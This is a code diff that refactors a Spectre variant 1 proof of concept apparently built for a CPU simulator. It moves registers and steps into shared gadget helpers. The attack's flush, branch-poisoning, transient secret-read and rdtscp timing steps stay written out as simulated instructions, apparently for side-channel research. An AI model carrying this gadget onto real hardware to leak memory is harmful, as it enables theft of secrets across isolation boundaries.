@@ -2,32 +2,21 @@
 
 #include <algorithm>
 
+#include "attack/gadget.hh"
 #include "sim/log.hh"
 
 namespace unxpec {
 
 namespace {
 
-constexpr RegIndex rIdx = 1;
-constexpr RegIndex rBound = 2;
-constexpr RegIndex rSecret = 3;
-constexpr RegIndex rProbe = 4;
-constexpr RegIndex rArray = 5;
-constexpr RegIndex rIdxTab = 6;
+// Registers beyond the gadget's (attack/gadget.hh); rP is the probe
+// array and rA the bounds-checked array.
 constexpr RegIndex rResTab = 7;
-constexpr RegIndex rTmp0 = 8;
-constexpr RegIndex rTmp1 = 9;
-constexpr RegIndex rTmp2 = 10;
-constexpr RegIndex rScaled = 11;
 constexpr RegIndex rTmp3 = 12;
-constexpr RegIndex rTrial = 17;
-constexpr RegIndex rTrials = 18;
 constexpr RegIndex rBoundAddr = 19;
 constexpr RegIndex rJ = 20;
 constexpr RegIndex rJMax = 21;
 constexpr RegIndex rZero = 22;
-constexpr RegIndex rT0 = 24;
-constexpr RegIndex rT1 = 25;
 constexpr RegIndex rDelta = 26;
 
 } // namespace
@@ -42,6 +31,7 @@ SpectreV1::SpectreV1(Core &core, const SpectreConfig &cfg)
 void
 SpectreV1::buildProgram()
 {
+    using namespace gadget;
     ProgramBuilder b;
 
     probeBase_ = b.alloc(kLineBytes * cfg_.probeEntries);
@@ -53,14 +43,11 @@ SpectreV1::buildProgram()
 
     b.initByte(arrayBase_, 0);  // A[0] = 0: training transmits byte 0
     b.initWord64(bound_addr, 1);
-    const std::uint64_t oob_index = secretAddr_ - arrayBase_;
-    for (unsigned t = 0; t + 1 < trials_; ++t)
-        b.initWord64(idxBase_ + 8 * t, 0);
-    b.initWord64(idxBase_ + 8 * (trials_ - 1), oob_index);
+    fillIndexTable(b, idxBase_, trials_, secretAddr_ - arrayBase_);
 
     // ---- code ---------------------------------------------------------
-    b.li(rProbe, static_cast<std::int64_t>(probeBase_));
-    b.li(rArray, static_cast<std::int64_t>(arrayBase_));
+    b.li(rP, static_cast<std::int64_t>(probeBase_));
+    b.li(rA, static_cast<std::int64_t>(arrayBase_));
     b.li(rIdxTab, static_cast<std::int64_t>(idxBase_));
     b.li(rResTab, static_cast<std::int64_t>(resultBase_));
     b.li(rBoundAddr, static_cast<std::int64_t>(bound_addr));
@@ -74,16 +61,13 @@ SpectreV1::buildProgram()
 
     // FLUSH: evict the whole probe array (line 19 of Algorithm 1).
     for (unsigned j = 0; j < cfg_.probeEntries; ++j)
-        b.clflush(rProbe, static_cast<std::int64_t>(j) * kLineBytes);
+        b.clflush(rP, static_cast<std::int64_t>(j) * kLineBytes);
 
     // ---- POISON + VICTIM loop ------------------------------------------
     const int loop_top = b.label();
     const int skip = b.label();
     b.bind(loop_top);
-
-    b.shl(rTmp0, rTrial, 3);
-    b.add(rTmp0, rTmp0, rIdxTab);
-    b.load(rIdx, rTmp0);
+    loadTrialIndex(b);
 
     // Flush the bound so the branch resolves slowly in the final round.
     b.clflush(rBoundAddr, 0);
@@ -96,10 +80,9 @@ SpectreV1::buildProgram()
     b.bge(rIdx, rBound, skip);
 
     // Transient: y = P[64 * A[index]].
-    b.add(rTmp2, rArray, rIdx);
-    b.load(rSecret, rTmp2, 0, 1);
+    readSecret(b);
     b.shl(rScaled, rSecret, 6);
-    b.add(rTmp3, rProbe, rScaled);
+    b.add(rTmp3, rP, rScaled);
     b.load(rTmp1, rTmp3);
 
     b.bind(skip);
@@ -118,7 +101,7 @@ SpectreV1::buildProgram()
     b.and_(rTmp0, rT0, rZero);
     b.shl(rTmp1, rJ, 6);
     b.add(rTmp1, rTmp1, rTmp0);
-    b.add(rTmp1, rTmp1, rProbe);
+    b.add(rTmp1, rTmp1, rP);
     b.load(rTmp2, rTmp1);
     b.rdtscp(rT1);
     b.sub(rDelta, rT1, rT0);
